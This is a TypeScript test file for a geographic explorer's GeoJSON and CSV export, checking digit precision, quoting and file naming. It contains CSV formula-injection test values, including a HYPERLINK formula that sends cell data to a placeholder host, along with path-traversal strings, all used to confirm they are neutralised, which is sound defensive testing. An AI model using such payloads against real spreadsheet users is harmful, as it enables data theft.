// What the explorer saves: the units as the service sent them, digit for digit, and their properties as CSV.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { gdal } from '../../generator/gdal/gdal.ts';
import { elementsOf, memberOf, membersOf } from '../../proxy/explorer/api/json-text.ts';
import { featuresToCsv } from '../../proxy/explorer/share/csv.ts';
import { toCsv, toGeoJson, toGeoJsonLines } from '../../proxy/explorer/share/units-file.ts';
import { countryLayers } from '../support/datasets/small-datasets.ts';
import { runSql, writeDataset } from '../support/datasets/write-dataset.ts';
import { send, textOf } from '../support/http/http-client.ts';
import { startService } from '../support/http/in-process-proxy.ts';
import { buildRelease } from '../support/releases/build-release.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

/** No double has this value: JSON.parse makes it 9007199254740992. */
const BEYOND_DOUBLES = '9007199254740993';
const FORMULA = '=HYPERLINK("http://x.test?"&A1)';

const source = join(temporaryFolder(), 'numbers.gpkg');
const layers = countryLayers().map((layer) => ({
  ...layer,
  columns: [...layer.columns, { name: 'code', type: gdal.OFTInteger64 }, 'note'],
  features: layer.features.map((unit, i) => ({ ...unit, values: [...unit.values, i, [FORMULA, null, '', '-'][i]] })),
}));
writeDataset(source, 'GPKG', layers);
const dataset = gdal.open(source, 'r+');
for (const { name } of layers) runSql(dataset, `UPDATE ${name} SET code = ${BEYOND_DOUBLES} WHERE fid = 1`);
dataset.close();
const folder = temporaryFolder();
await buildRelease(source, folder, { attribution: ['Tests & "friends"'] });
const proxy = await startService(folder);

async function pageText(path: string): Promise<string> {
  const answer = await send(proxy, path);
  assert.equal(answer.status, 200);
  return textOf(answer);
}

const lines = (await pageText('/api/v1/geojsonl/lv2')).trimEnd().split('\n');
const content = {
  features: lines,
  matched: lines.length,
  release: 'r1',
  level: 2,
  parents: [],
  attribution: ['Tests & "friends"'],
};

test('the parts of JSON are those that JSON.parse finds, whatever is in the strings and between the tokens', () => {
  const values = ['"}],{[\\""', '"\\\\"', '{"a":[1,{"b":"]"}]}', '-1.5e+300', 'null', 'true', '[]', '[[],[[0]]]', '""'];
  for (const space of ['', ' ', '\n\t ']) {
    const array = `${space}[${space}${values.join(`${space},${space}`)}${space}]${space}`;
    assert.deepEqual(elementsOf(array), values);
    const members = values.map((value, i) => `"n\\"${i}"${space}:${space}${value}${space}`);
    const object = `${space}{${space}${members.join(`,${space}`)}}`;
    const named = values.map((value, i) => [`n"${i}`, value]);
    assert.deepEqual([...membersOf(object)], named);
    JSON.parse(array);
    JSON.parse(object);
  }
  assert.deepEqual(elementsOf('[ ]'), []);
  assert.deepEqual([...membersOf('{ }')], []);
  for (const cut of ['[{"a":', '["a', '[[1,2']) assert.throws(() => elementsOf(cut), SyntaxError);
});

test('GeoJSON has every unit unchanged, how many there are and whose they are', () => {
  const { name, type, parts } = toGeoJson(content);
  const text = parts.join('');
  assert.deepEqual([name, type], ['r1-lv2.geojson', 'application/geo+json']);
  assert.deepEqual(elementsOf(memberOf(text, 'features') ?? ''), lines);
  const { features, ...members } = JSON.parse(text);
  assert.equal(features.length, 4);
  assert.deepEqual(members, {
    type: 'FeatureCollection',
    numberMatched: 4,
    numberReturned: 4,
    attribution: ['Tests & "friends"'],
  });
  assert.deepEqual(JSON.parse(toGeoJson({ ...content, features: [], matched: 0 }).parts.join('')).features, []);
});

test('GeoJSONSeq is what the service sends: a Feature a line without record separators', async () => {
  const { name, type, parts } = toGeoJsonLines(content);
  assert.deepEqual([name, type], ['r1-lv2.geojsonl', 'application/x-ndjson']);
  assert.equal(parts.join(''), await pageText('/api/v1/geojsonl/lv2'));
});

test('GDAL reads both files, with every digit', () => {
  for (const { name, parts } of [toGeoJson(content), toGeoJsonLines(content)]) {
    const file = `/vsimem/${name}`;
    gdal.vsimem.set(Buffer.from(parts.join('')), file);
    const read = gdal.open(file);
    const layer = read.layers.get(0);
    assert.equal(layer.features.count(), 4, name);
    assert.equal(layer.fields.get('code').type, gdal.OFTInteger64);
    read.close();
    gdal.vsimem.release(file);
  }
});

test('CSV begins with a byte order mark and fid, ends lines with CR LF, and has every digit', () => {
  const text = toCsv(content).parts.join('');
  assert.equal(
    text,
    [
      '\ufeff"fid","GID_2","GID_0","COUNTRY","GID_1","NAME_1","NAME_2","code","note"',
      `1,"AAA.1.1_1","AAA","Aland","AAA.1_1","North","Næst",${BEYOND_DOUBLES},"'=HYPERLINK(""http://x.test?""&A1)"`,
      '2,"AAA.2.1_1","AAA","Aland","AAA.2_1","South","Søst",1,',
      '3,"BBB.1.1_1","BBB","Beland","BBB.1_1","All","東",2,""',
      '4,"AAA.1.2_1","AAA","Aland","AAA.1_1","North","Wüst ""late""",3,"-"',
      '',
    ].join('\r\n'),
  );
  // A table has no shapes, whichever geometry its units have.
  const { name, type } = toCsv({ ...content, geometry: 'low' });
  assert.deepEqual([name, type], ['r1-lv2.csv', 'text/csv;charset=utf-8']);
});

test('CSV has the columns of all units, an empty cell where one lacks it, and values of every kind', () => {
  const features = [
    '{"type":"Feature","id":7,"properties":{"b":null,"=c":true}}',
    '{"type":"Feature","id":8,"properties":{"a":1e3,"b":{"x":[1,"y"]},"fid":8}}',
    '{"type":"Feature","id":9,"properties":null}',
  ];
  const rows = featuresToCsv(features).join('').slice(1).split('\r\n');
  assert.deepEqual(rows, ['"fid","b","\'=c","a"', '7,,true,', '8,"{""x"":[1,""y""]}",,1e3', '9,,,', '']);
});

test('a table of points has longitude and latitude as they were sent, under names that no column has', () => {
  const features = [
    '{"type":"Feature","id":7,"properties":{"a":1},"geometry":{"type":"Point","coordinates":[-3.7000000,40.25]}}',
    '{"type":"Feature","id":8,"properties":{"latitude":"north"},"geometry":null}',
  ];
  const rows = featuresToCsv(features, { hasPoints: true }).join('').slice(1).split('\r\n');
  assert.deepEqual(rows, ['"fid","a","latitude","longitude","latitude_"', '7,1,,-3.7000000,40.25', '8,,"north",,', '']);
});

test('a text that a spreadsheet would run as a formula is marked; numbers and other texts are not', () => {
  const cellOf = (value: unknown): string => {
    const [, , row = ''] = featuresToCsv([JSON.stringify({ id: 1, properties: { x: value } })]);
    return row.slice('1,'.length, -'\r\n'.length);
  };
  for (const text of ['=1', '+cmd', '-x', '@sum', '-1+1', '- ']) assert.equal(cellOf(text), `"'${text}"`);
  for (const start of ['\t', '\r', '\n']) assert.equal(cellOf(`${start}=1`), `"'${start}'=1"`);
  for (const text of ['＝1', '＋cmd', '－x', '＠sum']) assert.equal(cellOf(text), `"'${text}"`);
  for (const value of [-5, 0, 1.5, -1e-7]) assert.equal(cellOf(value), String(value));
  for (const text of ['-5', '+34', '-1.5', '-', "L'Aquila", 'a=b', "'x", 'a,b', 'two\nlines', ' x'])
    assert.equal(cellOf(text), `"${text}"`);
  // Read with another separator, the text's own separators and line breaks begin cells.
  for (const mark of [',', ';', '\t', '\r', '\n']) {
    for (const formula of ['=1+1', '+cmd', '-x', '@sum', '＝1', '-5+1', '-5 x'])
      assert.equal(cellOf(`x${mark}${formula}${mark}y`), `"x${mark}'${formula}${mark}y"`);
    assert.equal(cellOf(`x${mark}"=1+1"${mark}y`), `"x${mark}'""=1+1""${mark}y"`);
    for (const text of ['-5', '+34', '-1.5', '-1,5', 'a=b', "'=1", 'y-z', ''])
      assert.equal(cellOf(`x${mark}${text}${mark}y`), `"x${mark}${text}${mark}y"`);
    assert.equal(cellOf(`x${mark}-5`), `"x${mark}-5"`);
  }
  assert.equal(cellOf('x;-5,2+cmd'), `"x;'-5,2+cmd"`);
  assert.equal(cellOf('Marne, Saint-Denis; Aube'), '"Marne, Saint-Denis; Aube"');
  assert.equal(cellOf([1, -5, -6.5]), '"[1,-5,-6.5]"');
  assert.equal(cellOf(['a;=1']), `"[""a;'=1""]"`);
});

test('the name of a file says what is in it: release, level, parents, and whether units are missing', () => {
  const nameOf = (more: object): string => toGeoJsonLines({ ...content, ...more }).name;
  assert.equal(nameOf({ parents: ['ESP', 'ESP.1_1'] }), 'r1-lv2-ESP-ESP.1_1.geojsonl');
  assert.equal(nameOf({ matched: 8212 }), 'r1-lv2-part-4-of-8212.geojsonl');
  assert.equal(nameOf({ geometry: 'full' }), 'r1-lv2.geojsonl');
  assert.equal(nameOf({ geometry: 'low', parents: ['ESP'] }), 'r1-lv2-ESP-low.geojsonl');
  assert.equal(nameOf({ parents: ['a/../b', '"x"<y>:|?*\n', '東京'] }), 'r1-lv2-a_.._b-_x_y_-東京.geojsonl');
  assert.equal(nameOf({ release: '..', parents: ['x'.repeat(500)] }).length, '.geojsonl'.length + 120);
});
